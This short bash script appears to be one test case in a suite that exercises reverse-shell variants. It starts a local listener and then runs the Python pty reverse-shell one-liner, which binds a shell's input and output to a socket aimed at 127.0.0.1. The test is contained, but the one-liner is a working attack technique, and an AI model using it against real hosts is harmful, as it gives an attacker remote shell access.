#!/bin/bash
# Variant: the Python pty one-liner; /bin/sh runs on a pseudo-terminal relayed to the socket,
# so no shell has the socket as its input.
. "$(dirname "$0")/../lib.sh"
need python3
support python3 "$(dirname "$0")/../helpers/listener.py" "$PORT" "$WORK/ready" "id; exit"
wait_file "$WORK/ready"
python3 -c "
import os, pty, socket
s = socket.create_connection(('127.0.0.1', $PORT))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn('/bin/sh')
" || true
wait "${SUPPORT_PIDS[0]}" || true
